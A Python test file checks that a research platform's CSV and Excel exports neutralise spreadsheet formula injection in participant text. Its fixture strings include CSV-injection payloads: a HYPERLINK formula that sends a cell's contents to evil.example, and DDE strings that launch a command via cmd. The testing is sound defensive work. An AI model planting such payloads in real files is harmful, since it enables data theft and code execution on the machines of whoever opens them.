"""Exports never run (issue 36 item 8): participants' text that a spreadsheet would read as a formula is written
with a leading quote (OWASP, CSV Injection) in every CSV and in the workbook, numbers stay numbers, characters a
workbook cannot hold are shown instead of crashing the export, and INFACT reads its own files back unchanged."""

from __future__ import annotations

import copy
import csv
import io
import itertools
import json
import random

import openpyxl
import pandas as pd
import pytest

from infact.participation.bots import run_bots
from infact.results import kinds
from infact.results.analyze import read_table
from infact.results.export import export_bytes, write_exports
from infact.results.study_results import StudyResults
from infact.storage import MemoryStorage
from infact.study.loader import load_study
from infact.table_schema import FORMULA_START, TEXT_CELLS, neutral_cell, restored_cell
from tests.support.paths import REPO
from tests.support.studies import FakeClock, make_study

# Each begins with a character a spreadsheet reads as the start of a formula (OWASP's list), or is a text INFACT
# must give back exactly (a quote of its own, controls a workbook cannot hold, a bidi override).
HOSTILE = (  # the controls first: the workbook holds the first few answers of a participant or two
    "fine until\x01 the control =1+1",
    "\u202eexe.gnp",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1 already quoted",
)


def planted(records: list[dict]) -> tuple[list[dict], list[str]]:
    """The records with every free text a participant gives replaced by hostile strings, in turn: the comment
    and every demographics answer, every justification (pairwise, acute, live votes), the platform ID of the
    link they followed."""
    cycles: dict[str, itertools.cycle] = {}  # each kind of text goes through every hostile string on its own
    used: list[str] = []

    def text(field: str) -> str:
        used.append(next(cycles.setdefault(field, itertools.cycle(HOSTILE))))
        return used[-1]

    out = copy.deepcopy(records)
    for r in out:
        if r["kind"] == "questionnaire":
            r["comment"] = text("comment")
        if r["kind"] == "demographics":
            r["answers"] = {k: text("demographics") for k in r.get("answers", {})}
        if r["kind"] == "arrival":
            r["platform_id"] = text("platform_id")
        if "justification" in r:
            r["justification"] = text("justification")
    return out, used


def cells(data: bytes) -> tuple[list[str], list[list[str]]]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    return rows[0], rows[1:]


def check_files(files: dict[str, bytes]) -> dict[str, set[str]]:
    """Every CSV cell of a text column is safe, every number column holds numbers; returns file -> text cells."""
    package = json.loads(files["datapackage.json"])
    texts: dict[str, set[str]] = {}
    for resource in package["resources"]:
        if resource.get("format") != "csv":
            continue
        header, rows = cells(files[resource["path"]])
        types = {f["name"]: f["type"] for f in resource["schema"]["fields"]}
        for i, name in enumerate(header):
            column = [row[i] for row in rows if row[i] != ""]
            if types[name] == "string":
                running = [c for c in column if c.startswith(FORMULA_START)]
                assert not running, f"{resource['path']} column {name}: {running[:3]}"
                texts.setdefault(resource["path"], set()).update(column)
            elif types[name] in ("integer", "number"):
                assert all(not c.startswith("'") and float(c) == float(c) for c in column), (resource["path"], name)
    return texts


def check_workbook(data: bytes) -> list[str]:
    """No cell of the workbook is a formula or begins like one; returns every text cell."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_START), (sheet.title, cell.coordinate, cell.value)
                    texts.append(cell.value)
    return texts


def demo_records(name: str, n: int = 4) -> tuple:
    study = load_study(REPO / "data" / name)
    storage = MemoryStorage()
    run_bots(study, storage, n, seed=5, start=FakeClock()())
    return study, storage.records(study=study.id)


def live_records(tmp_path) -> tuple:
    from infact.chat.arena import LiveRun
    from infact.chat.bot import ChattingBot
    from infact.chat.client import connect_all

    demo = "infact.chat.demo_systems:"
    systems = {"GenreBot": demo + "genre_recommender", "PopBot": demo + "popular_recommender"}
    live = {"max_turns": 2, "systems": {k: {"callable": v} for k, v in systems.items()}}
    study = load_study(make_study(tmp_path, systems=tuple(systems), live=live))
    storage = MemoryStorage()
    clients = connect_all(study.config.live.systems)
    for i in range(3):
        ChattingBot(LiveRun(study, storage, clients, f"bot{i}"), random.Random(i)).play()
    return study, storage.records(study=study.id)


PROTOCOLS = {
    "ratings": ("demo", "questionnaire.csv"),
    "pairwise": ("demo-pairwise", "pairwise.csv"),
    "best-worst": ("demo-best-worst", "demographics.csv"),
    "acute": ("demo-acute", "pairwise.csv"),
    "conversations": ("demo-conversations", "demographics.csv"),
}


def _exported(study, records, tmp_path):
    hostile, used = planted(records)
    results = StudyResults(study, hostile)
    files = export_bytes(results.tables, study.systems, study_id=study.id)
    texts = check_files(files)
    shown = check_workbook(files["infact_sheets.xlsx"])
    return results, files, texts, shown, used


@pytest.mark.parametrize("protocol", list(PROTOCOLS))
def test_every_free_text_of_every_protocol_is_written_as_text(protocol, tmp_path):
    demo, table = PROTOCOLS[protocol]
    study, records = demo_records(demo)
    results, files, texts, shown, used = _exported(study, records, tmp_path)
    assert set(HOSTILE) <= set(used)  # every hostile string went into a stored record
    written = set().union(*texts.values())
    for h in set(used):  # each one reaches a CSV as text, neutralised or left as it is
        assert neutral_cell(h) in written, (protocol, h)
    assert "'=1+1 already quoted" not in written and "''=1+1 already quoted" in written
    assert any("[U+0001]" in s for s in shown) and any("[U+202E]" in s for s in shown)  # shown, not crashed on
    # INFACT reads its own export back: the text as stored, character for character
    out = tmp_path / "export"
    write_exports(results, out)
    back = read_table(out / table)
    text_column = {"pairwise.csv": "justification"}.get(table, "answer")
    stored = results.tables.by_kind[table.removesuffix(".csv")][text_column].dropna().astype(str)
    assert set(back[text_column].dropna().astype(str)) == set(stored) and set(stored) & set(used)


def test_live_chats_votes_and_justifications_are_written_as_text(tmp_path):
    study, records = live_records(tmp_path / "study")
    assert any("justification" in r for r in records)
    _, files, texts, shown, used = _exported(study, records, tmp_path)
    header, rows = cells(files["pairwise.csv"])
    justifications = {row[header.index("justification")] for row in rows}
    assert justifications and justifications <= {neutral_cell(h) for h in HOSTILE}
    assert any(j.startswith("'=") for j in justifications)


def test_a_control_character_in_a_comment_no_longer_stops_the_export(tmp_path):
    study, records = demo_records("demo", n=2)
    for r in records:
        if r["kind"] == "questionnaire":
            r["comment"] = "bad\x01char"
    files = StudyResults(study, records).files()
    book = openpyxl.load_workbook(io.BytesIO(files["infact_sheets.xlsx"]))
    feedback = [c.value for row in book["feedback"].iter_rows() for c in row]
    assert "bad[U+0001]char" in feedback
    assert (json.loads(files["records.json"])[0] is not None) and "bad\\u0001char" in files["records.json"].decode()


def frame_of(schema, n: int, repeated=()) -> pd.DataFrame:
    """Every text column of `schema` holding the hostile strings, every number column negative numbers."""
    values = {"string": list(HOSTILE), "integer": [-3], "number": [-2.5], "boolean": [True, False]}
    values["datetime"] = ["2026-03-02T09:00:00+00:00"]
    columns = {c.name: c.type for c in schema.columns}
    columns.update(dict.fromkeys(repeated, schema.repeated.type if schema.repeated else "integer"))
    return pd.DataFrame(
        {name: [values[kind][i % len(values[kind])] for i in range(n)] for name, kind in columns.items()}
    )


@pytest.mark.parametrize("name", sorted(kinds.all_schemas()))
def test_every_text_column_of_every_table_is_neutralised_and_numbers_stay_numbers(name, tmp_path):
    schema = kinds.schema_for(name)
    repeated = ["Alpha", "Beta"] if schema.repeated is not None else []
    frame = frame_of(schema, len(HOSTILE), repeated)
    data = schema.csv_bytes(frame, repeated)
    header, rows = cells(data)
    for i, col in enumerate(header):
        kind = schema.column(col).type if schema.column(col) else schema.repeated.type
        for row, original in zip(rows, frame[col]):
            if kind == "string":
                assert row[i] == neutral_cell(original) and not row[i].startswith(FORMULA_START)
            elif kind in ("integer", "number"):
                assert float(row[i]) < 0 and not row[i].startswith("'")  # a negative number is not quoted
    (tmp_path / name).write_bytes(data)
    back = schema.read(tmp_path / name)
    for c in schema.columns:
        if c.type == "string":
            assert list(back[c.name]) == list(frame[c.name])  # read back as stored, character for character
        elif c.type in ("integer", "number"):
            assert (back[c.name] < 0).all()


def test_the_datapackage_says_which_fields_are_neutralised():
    from infact.table_schema import datapackage

    package = datapackage("x", "x", [(s, s.names) for s in kinds.all_schemas().values()], {})
    for resource in package["resources"]:
        for field in resource["schema"]["fields"]:
            assert (TEXT_CELLS in field["description"]) == (field["type"] == "string"), (resource["path"], field)


@pytest.mark.parametrize("text", [*HOSTILE, "", "plain", "'", "''", "'x", "-", "="])
def test_a_neutralised_cell_reads_back_as_it_was(text):
    assert restored_cell(neutral_cell(text)) == text
    assert not str(neutral_cell(text)).startswith(FORMULA_START)


def test_only_text_cells_are_touched():
    assert neutral_cell(-3) == -3 and neutral_cell(-2.5) == -2.5 and neutral_cell(None) is None
    assert restored_cell("'plain") == "'plain"  # a quote INFACT did not add stays


def test_an_imported_vote_s_feedback_is_neutralised_and_analyze_reads_it_back(tmp_path):
    """`import crs-arena` writes pairwise.csv as INFACT exports it: the same neutralised text, read back as given."""
    from infact.importers.crs_arena import import_votes

    votes = tmp_path / "votes.csv"
    feedback = ['=HYPERLINK("http://evil.example")', "-1+1 meh", "@SUM(1)", "'quoted", "plain"]
    with votes.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh, lineterminator="\n")
        writer.writerow(["session_id", "user_id", "crs1", "crs2", "vote", "feedback"])
        writer.writerows([f"s{i}", f"u{i}", "alpha", "beta", "alpha", f] for i, f in enumerate(feedback))
    import_votes(votes, tmp_path / "out")
    raw = (tmp_path / "out" / "pairwise.csv").read_bytes()
    header, cells_ = cells(raw)
    written = [row[header.index("justification")] for row in cells_]
    assert written == [neutral_cell(f) for f in feedback]
    back = read_table(tmp_path / "out" / "pairwise.csv")
    assert list(back["justification"]) == feedback


def test_a_participant_token_never_begins_like_a_formula(monkeypatch):
    """Tokens are joined on across every table: one that began with `-` would be quoted in each of them."""
    from infact.participation import flow as flow_module
    from infact.participation.flow import Flow

    study = load_study(REPO / "data" / "demo")
    drawn = iter(["-startsLikeAFormula", "_reservedForResearchers", "fineTokenHere"])
    monkeypatch.setattr(flow_module.secrets, "token_urlsafe", lambda n: next(drawn))
    assert Flow(study, MemoryStorage(), clock=FakeClock()).arrive({}) == "fineTokenHere"


def test_verify_codes_prints_a_typed_code_as_text(tmp_path, capsys):
    """`verify-codes` prints a CSV a researcher saves and opens: the codes workers typed never run either."""
    from infact.cli.main import main
    from infact.storage import TinyDBStorage

    run_bots(load_study(REPO / "data" / "demo"), TinyDBStorage(tmp_path / "db"), 1, strategy="attentive", seed=3)
    submitted = tmp_path / "codes.txt"
    submitted.write_text('=HYPERLINK("http://evil.example")\n', encoding="utf-8")
    main(["verify-codes", str(submitted), "--study", str(REPO / "data" / "demo"), "--db", str(tmp_path / "db")])
    header, rows = cells(capsys.readouterr().out.encode("utf-8"))
    assert [row[header.index("submitted")] for row in rows] == ['\'=HYPERLINK("http://evil.example")']
    assert [row[header.index("matched")] for row in rows] == ["False"]
